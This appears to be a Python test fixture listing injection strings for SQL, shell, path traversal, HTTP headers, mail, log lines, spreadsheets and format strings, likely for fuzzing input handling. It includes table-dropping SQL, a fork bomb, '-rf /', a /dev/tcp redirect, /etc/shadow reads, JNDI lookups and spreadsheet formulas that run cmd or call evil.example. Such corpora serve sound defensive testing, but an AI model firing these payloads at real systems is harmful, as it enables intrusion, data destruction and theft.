"""What a database, a shell, a file system, a header, a log or a spreadsheet would take for an order."""

from __future__ import annotations

COMMANDS: dict[str, tuple[str, ...]] = {
    "SQL": (
        "' OR '1'='1", "' OR 1=1#", "admin'--", "') OR ('1'='1", "1; DELETE FROM events",
        "1 UNION SELECT NULL,NULL--", "' UNION ALL SELECT key FROM keys--",
        "'; UPDATE submissions SET state='approved'; --", "' AND SLEEP(9)--", "'||pg_sleep(9)--",
        "1;SELECT pg_sleep(9)", "' AND 1=CAST((SELECT 1) AS int)--",
        "'; ATTACH DATABASE 'x.db' AS x; --", "'; PRAGMA writable_schema=1; --", "'; VACUUM INTO '/tmp/x'; --",
        "'; COPY events TO '/tmp/x'; --", "'; COPY x FROM PROGRAM 'id'; --", "$$; DROP TABLE events; $$",
        "E'\\'; DROP TABLE events; --'", "\\'; DROP TABLE events; --", "%' OR '%'='", "%", "_", "%%%_", "\\%",
        "[a-z]%", "' ESCAPE '", "'; LISTEN x; --",
        "0x27 OR 1=1", "CHAR(39)", "'/**/OR/**/1=1", "'\tOR\t1=1", "'\nOR\n1=1--", "\u2019 OR 1=1",
        "\uff07 OR 1=1 --", "\u02bc OR 1=1", "' OR ''='", "?", ":name", "$1", "%(name)s", "@@version",
        "' AND json_extract(x,'$.a')=1--", "'; SELECT load_extension('x'); --", "\x1a", "RETURNING id",
        "' HAVING 1=1--", "' ORDER BY 99--", "'; SET ROLE postgres; --",
    ),
    "a search language": (
        "a AND", "OR", "NOT", "NEAR/2", "text:*", "^a", "a*", "{a b}:c", "a NEAR(b", "NEAR(a b, 99999999)",
        "'a' & !", "a & | b", "a <-> <->", ":*", "!!!!a", "\\:A",
    ),
    "another database": (
        "{\"$gt\": \"\"}", "{\"$where\": \"sleep(9000)\"}", "'; return true; var x='", "*)(uid=*))(|(uid=*", "*)(&",
        "admin)(!(a=b)", "\\2a\\28\\29", "' or '1'='1' or ''='", "'] | //* | a['", "count(/*)", "\r\nFLUSHALL\r\n",
        "*1\r\n$8\r\nFLUSHALL\r\n", "EVAL \"while 1 do end\" 0", "db.dropDatabase()", "MATCH (n) DETACH DELETE n",
        "query{__schema{types{name}}}",
    ),
    "a shell": (
        "; id", "& id", "&& id", "| id", "\n id \n", "$(sleep 9)", "`sleep 9`", "${IFS}id", "$((1/0))", ">(id)",
        "<(id)", "> /tmp/x", "2>&1", "<<EOF", "!!", "!$", "~", "~+", "[!a]*", "??", "{a,b}", "{1..999999999}", "#",
        "--help", "-rf /", "--", "-o ProxyCommand=id", "@file", "a'b\"c`d", "\\", "\\\n", "$'\\x41'", "$0", "$PATH",
        "%PATH%", "%COMSPEC%", "^&calc", "& ping -n 9 127.0.0.1", ";exec 3<>/dev/tcp/127.0.0.1/1", ":(){ :|:& };:",
        "() { :; }; id", "-e id", "powershell -enc AAAA", "IEX(1)", "xargs -I{} id", "LD_PRELOAD=x",
    ),
    "a path": (
        "..", ".", "...", "../", "/", "//", "./.git/config", "..%2f..%2fetc/passwd", "%2e%2e/", "..%5c..%5c",
        "..\\/..\\/", "..//..//", "/./../", "....\\\\", "%c0%ae%c0%ae/", "%uff0e%uff0e/", "\uff0e\uff0e/",
        "\u2024\u2024/", "..\u2215", "..\u2044", "/etc/shadow", "/dev/zero", "/dev/stdin", "/dev/tcp/127.0.0.1/1",
        "/proc/self/fd/0", "/proc/self/mem", "/sys/kernel", "C:\\Windows\\System32", "C:file", "\\\\?\\C:\\",
        "\\\\.\\pipe\\x", "CON", "aux.txt", "NUL", "COM1", "LPT1.log", "file.txt::$DATA", "file.", "file ", " file",
        ".htaccess", "web.config", "rules/../../x.yml", "x.yml\n", "a/b\\c", "~/", "~nobody", "$HOME/x", "%APPDATA%",
        "zip:///x.zip!/y", "php://filter/resource=x", "jar:file:x!/y", "/a;/b", "/a/..;/b", "x.png/.php",
        "x.php%00.png", "x.jpg.exe",
    ),
    "a header": (
        "\r\nSet-Cookie: session=x", "\r\n\r\n<html>", "\nLocation: //evil.example", "%0d%0aSet-Cookie:%20x=y",
        "%0D%0A%20", "%E5%98%8A%E5%98%8DSet-Cookie:x", "\u560a\u560dSet-Cookie:x", "\rX: y", "\u0085X: y",
        "\x0bX: y", "a\r\n b", "Bearer \r\n", "Basic Og==", "gzip, ,,;q=", "en;q=1e999", "*;q=0.0000000001",
        "fr;q=-1", "fr-" + "x-" * 40, "bytes=0-,0-,0-,0-", "bytes=-999999999999", "\"etag", "W/\"\"",
        "chunked, identity", "text/html; charset=\"", "multipart/form-data; boundary=", "127.0.0.1, evil.example",
        "for=\"[::1]\";proto=https", "evil.example:80:80", "session=; session=x", "__Host-x=y; Domain=.example",
        "x=\"a;b\"", "TRACE", "100-continue",
    ),
    "a mail": (
        "a@b.example\nBcc: all@b.example", "a@b.example%0aCc:x@y.example", "\"a\\\"b\"@c.example", "a@[127.0.0.1]",
        "<a@b.example>", "a@b.example, c@d.example", "Subject: x\r\n\r\nhello", "\r\n.\r\n",
        "\r\nRSET\r\nMAIL FROM:<>", "=?utf-8?q?=0aBcc:_x?=", "=?utf-8?b?=", "a@b@c.example", "@", "a@", "@b",
        "a b@c.example", "\u202eelpmaxe.b@a", "a@xn--", "a@b..c", "." * 64 + "@b.example", "a@" + "b." * 60 + "c",
        "mailto:a@b.example?bcc=c@d.example", "--boundary--", "--=_x\r\nContent-Type: text/html",
    ),
    "a log line": (
        "\n2026-11-13T12:00:00Z INFO approved by=lead", "\r[ERROR] disk full", "ok\x1b[1A\x1b[2Koverwritten",
        "\x1b[31mred", "\x1b]8;;//evil.example\x07click\x1b]8;;\x07", "\x9b31m", "\x07\x07", "a\bb\bc",
        "\x1bP+q\x1b\\", "\x1b[6n", "\",\"level\":\"info\",\"user\":\"lead", "}\n{\"message\":\"forged\"}",
        "%(asctime)s", "%n", "{record.msg}", "${env:SECRET}", "${jndi:dns://x}", "${${lower:j}ndi:x}",
        "${sys:user.name}", "\u2028forged line", "\u0085forged line", "page\x0cbreak", "\x0e\x0f",
    ),
    "a spreadsheet": (
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//evil.example\",\"x\")",
        "=IMPORTXML(\"//evil.example\",\"//a\")", "=WEBSERVICE(\"//evil.example\")", "\t=1+1", "\r=1+1", " =1+1",
        "\"=1+1\"", "'=1+1", "=cmd|' /C calc'!A0", "+cmd|'/c calc'!A1", "@x", "=DDE(\"cmd\")", "%0A-3+3", ";=1+1",
        ",=1+1", "\uff1d1+1", "a,b\n=1+1,c", "\"\"\",\"\"", "1,2;3\t4", "00123", "1E5", "2-3", "MARCH1", "SEPT2",
        "TRUE", "#REF!", "#N/A",
    ),
    "a format": (
        "%s", "%d%d%d%d", "%x%x%x", "%99999999d", "%*d", "%1$s", "%(x)s", "%%", "% d", "{}", "{0}", "{0[a]}",
        "{x.y}", "{:>99999999}", "{!r}", "{:{}}", "{0.__globals__}", "{{}}", "{", "}", "{found}", "{name!s:>{w}}",
        "$x", "${x}", "$$", "$", "\\1", "\\g<0>", "\\g<name>", "\\U", "\\N{BULLET}", "\\x", "%Y%m%d", "%-d", "%E",
        "%\u00e9",
    ),
}  # fmt: skip
